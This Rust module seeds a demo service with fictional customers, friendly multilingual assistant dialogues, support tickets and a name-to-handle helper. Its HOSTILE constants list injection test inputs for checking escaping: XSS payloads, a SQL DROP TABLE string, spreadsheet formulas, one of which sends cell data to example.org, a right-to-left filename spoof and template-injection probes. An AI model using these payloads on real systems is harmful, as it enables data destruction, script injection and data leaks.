//! Words that the sample company is made of.

/// The people of the demo's tour: name, plan, country and language.
pub(super) const TOUR: [[&str; 4]; 5] = [
    ["Ada O'Brien", "free", "IE", "en"],
    ["Noor Janssens", "free", "BE", "fr"],
    ["Matteo Rossi", "pro", "IT", "en"],
    ["Hélène Dupont", "team", "FR", "fr"],
    ["Jürgen Müller", "enterprise", "DE", "de"],
];

/// Given names, surnames and places follow no real person.
pub(super) const GIVEN: [&str; 24] = [
    "Ada",
    "Noor",
    "Zoé",
    "Émile",
    "Liv",
    "Oskar",
    "Saoirse",
    "Björn",
    "Inès",
    "Tomás",
    "Katarzyna",
    "Jürgen",
    "Aoife",
    "Mehmet",
    "Chloé",
    "Andrei",
    "Ludmila",
    "Giulia",
    "Hélène",
    "Matteo",
    "Sanne",
    "Ewa",
    "Nils",
    "Dafni",
];

pub(super) const SURNAMES: [&str; 24] = [
    "Lefèvre",
    "O'Brien",
    "Müller",
    "Nowak",
    "Rossi",
    "García",
    "Janssens",
    "Novák",
    "Lindqvist",
    "Papadaki",
    "Ionescu",
    "Horvat",
    "Silva",
    "Kovács",
    "Dupont",
    "Schmidt",
    "Virtanen",
    "Bērziņš",
    "Murphy",
    "Van Dijk",
    "Moreau",
    "Weber",
    "Costa",
    "Petrov",
];

/// A country and the language that people there use the service in.
pub(super) const COUNTRIES: [(&str, &str); 12] = [
    ("FR", "fr"),
    ("FR", "fr"),
    ("FR", "fr"),
    ("BE", "fr"),
    ("DE", "de"),
    ("DE", "de"),
    ("AT", "de"),
    ("IE", "en"),
    ("NL", "en"),
    ("SE", "en"),
    ("IT", "en"),
    ("PL", "en"),
];

pub(super) const CITIES: [&str; 8] =
    ["Lyon", "Gent", "Köln", "Cork", "Namur", "Nantes", "Graz", "Łódź"];

/// What people and the assistant say by turns; the person begins.
pub(super) struct Dialogue {
    pub(super) language: &'static str,
    pub(super) title: &'static str,
    pub(super) lines: &'static [&'static str],
}

const fn dialogue(
    language: &'static str,
    title: &'static str,
    lines: &'static [&'static str],
) -> Dialogue {
    Dialogue { language, title, lines }
}

pub(super) const DIALOGUES: [Dialogue; 15] = [
    dialogue(
        "en",
        "A letter to the landlord",
        &[
            "My rent went up by eleven percent. Can you make this letter sound more polite?",
            "Of course. Here is a version that is firm and friendly; I kept the dates as you gave them.",
            "Good, but shorter please. He never reads past the first page.",
            "Here it is in nine lines, with the question at the top.",
            "Perfect. And how do I say that the boiler is still broken?",
            "\"The boiler, which I reported on 3 March, still does not heat above 40 degrees.\"",
            "Thanks, sending it today.",
            "Good luck. Keep a copy of it.",
        ],
    ),
    dialogue(
        "en",
        "My back",
        &[
            "It hurts mostly in the morning, low on the left side.",
            "You may want to see a doctor about that, above all if it does not get better within some weeks.",
            "I have an appointment on Tuesday. What should I write down before?",
            "When it began, what makes it better or worse, and what you take for it.",
            "Since I moved the sofa. Walking helps.",
            "Then say exactly that; it is a useful answer.",
        ],
    ),
    dialogue(
        "en",
        "Homework on fractions",
        &[
            "Please explain why 1/2 + 1/3 is 5/6 as to a ten-year-old.",
            "Cut one cake into six pieces. Half of it is three pieces, a third is two. Together: five of six.",
            "She says that cakes have eight pieces.",
            "Then let her try with eight, and see where the third gets difficult.",
            "She found it herself!",
            "That is the best way to find it.",
        ],
    ),
    dialogue(
        "en",
        "Names for a boat",
        &[
            "We are looking for a name for a small wooden boat, green and white.",
            "\"Water Lily\", \"Second Wind\", or \"Peppermint\"?",
            "Peppermint! The children are seven and nine and they are delighted.",
            "Then Peppermint it is. Paint it before they change their minds.",
        ],
    ),
    dialogue(
        "en",
        "A speech for Nana's eightieth",
        &[
            "I have three minutes, sixty guests, and she hates sentimental speeches.",
            "Then begin with the story that she tells best, and let her correct you.",
            "The one with the goat on the bus.",
            "Exactly. Two minutes of goat, one of thanks, and raise the glass.",
            "What if I cry?",
            "Then stop, drink, and go on. Nobody will mind.",
        ],
    ),
    dialogue(
        "en",
        "Moving to another city",
        &[
            "What do I have to cancel when I move from Cork to Gothenburg?",
            "The lease, electricity, the gym, the broadband, and tell the tax office and your bank.",
            "The gym wants three months' notice.",
            "Look for a clause on moving house; many contracts let you go earlier.",
        ],
    ),
    dialogue(
        "fr",
        "Recette pour six",
        &[
            "Combien de farine pour douze crêpes ?",
            "Environ 250 g, avec un demi-litre de lait et trois œufs.",
            "Et sans gluten ? Ma belle-sœur est cœliaque.",
            "Prenez de la farine de sarrasin pure, et vérifiez l'étiquette : « sans traces de blé ».",
            "Merci, c'est parfait.",
            "Bon appétit !",
        ],
    ),
    dialogue(
        "fr",
        "Un voyage à Porto",
        &[
            "Trois jours à Porto en novembre avec une poussette : c'est raisonnable ?",
            "Oui, mais ça monte. Prenez le tram pour la Ribeira et gardez le matin pour les jardins.",
            "Et s'il pleut ?",
            "Le musée du tram et la librairie ; réservez la seconde à l'ouverture.",
        ],
    ),
    dialogue(
        "fr",
        "Résilier ma salle de sport",
        &[
            "Comment résilier un abonnement pris pour un an ?",
            "Regardez la clause « motif légitime » : un déménagement ou une raison de santé suffit souvent.",
            "J'ai un certificat du kiné.",
            "Alors joignez-en une copie et envoyez le tout en recommandé.",
            "Tu peux écrire la lettre ?",
            "Voici : « Madame, Monsieur, par la présente je vous informe… »",
            "Mets la date du 1er mars.",
            "C'est fait.",
        ],
    ),
    dialogue(
        "fr",
        "Un prénom pour la petite",
        &[
            "On hésite entre Inès et Zoé. Nom de famille : Van Dijk.",
            "Les deux vont bien. Dites-les dix fois à voix haute, comme si elle était au fond du jardin.",
            "Zoé gagne.",
            "Félicitations à vous trois !",
        ],
    ),
    dialogue(
        "fr",
        "Comprendre ma fiche de paie",
        &[
            "Pourquoi mon net a baissé de 43 euros ?",
            "Comparez les lignes « mutuelle » et « prélèvement à la source » des deux mois.",
            "C'est la mutuelle, oui.",
            "Demandez au service paie la date du nouveau contrat.",
        ],
    ),
    dialogue(
        "de",
        "Bewerbung als Gärtnerin",
        &[
            "Ich suche eine Stelle in der Nähe von Bonn. Kannst du mein Anschreiben kürzen?",
            "Gern. Ich habe den ersten Absatz gestrichen und mit den Obstbäumen angefangen.",
            "Klingt gut. Muss mein Foto dazu?",
            "Nein, das darf niemand verlangen.",
            "Danke, dann ohne.",
            "Viel Erfolg!",
        ],
    ),
    dialogue(
        "de",
        "Wanderung am Wochenende",
        &[
            "Zwei Tage, mit Hund, nicht mehr als 15 km am Tag?",
            "Der Rheinsteig von Linz nach Bad Hönningen passt, mit einer Pension in der Mitte.",
            "Nehmen die Hunde?",
            "Frag vorher an; drei von vier sagen ja.",
        ],
    ),
    dialogue(
        "de",
        "Warum ist der Himmel blau?",
        &[
            "Meine Tochter fragt, und „wegen der Luft“ reicht ihr nicht.",
            "Blaues Licht wird von der Luft stärker gestreut als rotes. Darum kommt es von überall her.",
            "Und abends?",
            "Dann ist der Weg länger, das Blau ist schon fort und das Rot bleibt übrig.",
        ],
    ),
    dialogue(
        "de",
        "Brief an die Krankenkasse",
        &[
            "Die Kasse lehnt meine Physiotherapie ab. Was schreibe ich?",
            "„Gegen Ihren Bescheid lege ich Widerspruch ein“, mit Datum und Aktenzeichen.",
            "Bis wann?",
            "Innerhalb eines Monats. Die Begründung kann später kommen.",
            "Und der Arzt?",
            "Bitte ihn um zwei Sätze, warum es nötig ist.",
        ],
    ),
];

/// Subjects and bodies of support tickets.
pub(super) const TICKETS: [(&str, &str); 8] = [
    ("I cannot sign in", "Since yesterday the code never arrives. I checked the spam folder."),
    ("Changer d'adresse", "J'ai une nouvelle adresse depuis janvier, comment la modifier ?"),
    (
        "Rechnung fehlt",
        "Für März habe ich keine Rechnung bekommen, brauche sie aber für die Steuer.",
    ),
    ("Wrong language", "The app speaks German to me. I do not."),
    ("Export", "Is there a way to get all my conversations in one file?"),
    ("Lecteur d'écran", "Le bouton « envoyer » n'est pas annoncé par mon lecteur d'écran."),
    ("Twice the same charge", "There are two charges of 12.00 on my card for the same month."),
    ("Dunkelmodus", "Bitte baut einen Dunkelmodus ein. Danke!"),
];

/// A conversation that tries to break whatever shows it.
pub(super) const HOSTILE: [&str; 14] = [
    "<script>alert('x')</script>",
    "</td></tr></table><h1>gone</h1><img src=x onerror=alert(1)>",
    "=HYPERLINK(\"https://example.org/?\"&A1,\"click\")",
    "+33 1 23 45 67 89",
    "-1+1; DROP TABLE users; --",
    "@SUM(1,2)",
    "line one\nline two\r\nline three\n\n\ttabbed",
    "🦉 said \"hoot\", then 'left' 👩‍👩‍👧‍👦",
    "مرحبا بالعالم، كيف حالك؟",
    "right to left: \u{202e}txt.exe",
    "&amp; &#60;b&#62; %3Cb%3E {{ 7 * 7 }} ${7*7}",
    "a\\b\\'c\\\"d; `e`, 'f''g'",
    "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft",
    "   spaces before and after   ",
];

/// Names that people do have in databases.
pub(super) const HOSTILE_NAMES: [&str; 6] =
    ["<b>Bo</b> O'Neil", "\"Quo\" Te", "ليلى حداد", "=1+1", "🦉 Owl", "Null"];

/// What stands before the number in an address: ASCII letters only.
pub(super) fn handle(name: &str) -> String {
    let plain = name.chars().filter_map(|c| match c {
        'a'..='z' | 'A'..='Z' => Some(c.to_ascii_lowercase()),
        'á' | 'à' => Some('a'),
        'é' | 'è' | 'É' | 'ē' => Some('e'),
        'í' | 'ï' => Some('i'),
        'ö' | 'ó' => Some('o'),
        'ü' => Some('u'),
        'ņ' => Some('n'),
        'š' => Some('s'),
        ' ' => Some('.'),
        _ => None,
    });
    let plain: String = plain.collect();
    let plain = plain.trim_matches('.');
    if plain.is_empty() { "person".to_owned() } else { plain.to_owned() }
}
